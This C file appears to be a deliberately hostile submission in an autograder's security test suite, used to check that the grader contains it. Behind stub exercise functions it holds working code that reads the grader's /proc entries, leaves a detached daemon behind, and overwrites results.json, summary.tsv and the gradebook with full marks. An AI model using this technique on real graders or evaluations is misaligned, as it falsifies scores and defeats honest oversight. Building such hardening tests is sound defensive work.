/*
 * HOSTILE SUBMISSION forge-daemon (graded by tests/grading/test_hostile.sh, alone and under
 * grade-all; deserves 0 points). Attacks: the results after the grader is done with them. In
 * 1.2's probe it reads its ancestors' command lines and working directories (/proc/PID/cmdline,
 * /proc/PID/cwd) for where grade.sh writes results.json and summary.tsv, and grade-all.sh its
 * gradebook, then leaves a daemon behind (fork, setsid, fork; named hostile-marker) that waits
 * for grade.sh to exit and, a second later, rewrites results.json and summary.tsv with full
 * marks; under grade-all it then waits for grade-all.sh too, and a second after it gives itself
 * full marks in gradebook.csv. It exits by itself within 60 s.
 * Contained: results.json, summary.tsv and the gradebook still give it 0 a few seconds after
 * grading, and no hostile-marker process is left.
 */
#include HOSTILE_TOOLKIT /* tests/grading/hostile/toolkit.c, put here by test_hostile.sh */
#include <sys/prctl.h>

static int h_alive(int pid) { /* a zombie is dead */
    char path[64], buf[1024];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    if (h_read(path, buf, sizeof buf) <= 0) return 0;
    char *p = strrchr(buf, ')');
    return p && p[1] == ' ' && p[2] != 'Z' && p[2] != 'X';
}

static void h_pause(int ms) {
    struct timespec t = {ms / 1000, (long)(ms % 1000) * 1000000L};
    nanosleep(&t, NULL);
}

static char h_ids[128][32];
static int h_points[128], h_count, h_total;
static char h_results[PATH_MAX], h_summary[PATH_MAX + 16], h_gradebook[PATH_MAX + 16], h_name[256];

static void h_forge_results(void) {
    static char json[H_BIG], tsv[H_BIG];
    size_t j = 0, t = 0;
    j += (size_t)snprintf(json + j, sizeof json - j, "{\n  \"score\": %d,\n  \"max_score\": %d,\n  \"tests\": [\n", h_total, h_total);
    for (int i = 0; i < h_count && j < sizeof json && t < sizeof tsv; i++) {
        j += (size_t)snprintf(json + j, sizeof json - j,
                              "    {\"name\": \"%s\", \"score\": %d, \"max_score\": %d, \"status\": \"passed\", \"output\": \"passed\"}%s\n",
                              h_ids[i], h_points[i], h_points[i], i + 1 < h_count ? "," : "");
        t += (size_t)snprintf(tsv + t, sizeof tsv - t, "%s\t%d\t%d\tpassed\n", h_ids[i], h_points[i], h_points[i]);
    }
    if (j < sizeof json) snprintf(json + j, sizeof json - j, "  ]\n}\n");
    h_write(h_results, json);
    h_write(h_summary, tsv);
}

static void h_forge_gradebook(void) { /* this student's row: full marks */
    static char book[H_BIG], out[H_BIG];
    if (h_read(h_gradebook, book, sizeof book) <= 0) return;
    size_t o = 0, prefix = strlen(h_name);
    for (char *line = book; *line && o < sizeof out;) {
        char *end = strchr(line, '\n');
        size_t len = end ? (size_t)(end - line) : strlen(line);
        if (len > prefix && !strncmp(line, h_name, prefix) && line[prefix] == ',') {
            o += (size_t)snprintf(out + o, sizeof out - o, "%s", h_name);
            for (int i = 0; i < h_count && o < sizeof out; i++) o += (size_t)snprintf(out + o, sizeof out - o, ",%d", h_points[i]);
            if (o < sizeof out) o += (size_t)snprintf(out + o, sizeof out - o, ",%d\n", h_total);
        } else if (o < sizeof out) {
            o += (size_t)snprintf(out + o, sizeof out - o, "%.*s\n", (int)len, line);
        }
        line += len + (end ? 1 : 0);
    }
    h_write(h_gradebook, out);
}

static void h_daemon(void) {
    int grade = h_grader("grade.sh"), all = h_grader("grade-all.sh");
    char own[PATH_MAX], work[PATH_MAX], option[PATH_MAX], line[1024];
    if (!grade || !h_option(0, "--results", option, sizeof option)) return;
    h_resolve(0, option, work, sizeof work); /* BUILD/grade/NAME/lessonN/ID.tsv */
    for (int up = 0; up < 2; up++) {
        char *slash = strrchr(work, '/');
        if (!slash) return;
        *slash = '\0';
    }
    if (h_option(grade, "--results", option, sizeof option)) h_resolve(grade, option, h_results, sizeof h_results);
    else snprintf(h_results, sizeof h_results, "%s/results.json", work);
    snprintf(own, sizeof own, "%s", h_results);
    char *slash = strrchr(own, '/');
    if (!slash) return;
    *slash = '\0';
    snprintf(h_summary, sizeof h_summary, "%s/summary.tsv", own);
    if (!h_option(grade, "--name", h_name, sizeof h_name)) snprintf(h_name, sizeof h_name, "%s", strrchr(work, '/') + 1);
    if (all) {
        char out[PATH_MAX];
        if (h_option(all, "--out", option, sizeof option)) h_resolve(all, option, out, sizeof out);
        else h_resolve(all, "build/gradebook", out, sizeof out);
        snprintf(h_gradebook, sizeof h_gradebook, "%s/gradebook.csv", out);
    }
    snprintf(own, sizeof own, "%s/exercises.tsv", work);
    FILE *f = fopen(own, "r");
    if (!f) return;
    while (h_count < 128 && fgets(line, sizeof line, f))
        if (sscanf(line, "%31[^\t]\t%d", h_ids[h_count], &h_points[h_count]) == 2) h_total += h_points[h_count++];
    fclose(f);

    fflush(NULL);
    pid_t child = fork();
    if (child < 0) return;
    if (child > 0) {
        waitpid(child, NULL, 0);
        return;
    }
    setsid();
    if (fork() != 0) _exit(0);
    prctl(PR_SET_NAME, "hostile-marker", 0, 0, 0);
    int null = open("/dev/null", O_RDWR);
    for (int fd = 0; fd < 3; fd++) dup2(null, fd);
    for (int fd = 3; fd < 1024; fd++) close(fd);
    time_t until = time(NULL) + 60; /* never longer than a minute, whatever happens */
    while (h_alive(grade) && time(NULL) < until) h_pause(20);
    if (time(NULL) >= until) _exit(0);
    h_pause(1000); /* once the report has been printed and looked at */
    h_forge_results();
    if (all) {
        while (h_alive(all) && time(NULL) < until) h_pause(20);
        h_pause(1000);
        if (time(NULL) < until) h_forge_gradebook();
    }
    h_pause(500);
    h_forge_results(); /* again, in case the grader wrote them late */
    _exit(0);
}

void ex1_1_broadcast_by_hand(BroadcastByHand *answer) { memset(answer, 0, sizeof *answer); }

int ex1_2_broadcast_shapes(const int64_t *a, int a_rank, const int64_t *b, int b_rank, int64_t *out, int *out_rank) {
    (void)a, (void)a_rank, (void)b, (void)b_rank, (void)out, (void)out_rank;
    if (!h_in_test()) h_daemon(); /* once: 1.2's probe */
    return -2;
}
int ex1_3_broadcast_strides(const int64_t *src, int src_rank, const int64_t *src_strides, const int64_t *target,
                            int target_rank, int64_t *out_strides) {
    (void)src, (void)src_rank, (void)src_strides, (void)target, (void)target_rank, (void)out_strides;
    return -2;
}
void ex1_4_broadcast_map(const int64_t *target, int target_rank, const int64_t *src, int src_rank, int64_t *map) {
    (void)target, (void)target_rank, (void)src, (void)src_rank, (void)map; /* map left as it came */
}
void ex1_5_sum_to_shape(const float *grad, const int64_t *shape, int rank, float *out, const int64_t *out_shape,
                        int out_rank) {
    (void)grad, (void)shape, (void)rank, (void)out, (void)out_shape, (void)out_rank; /* out left as it came */
}
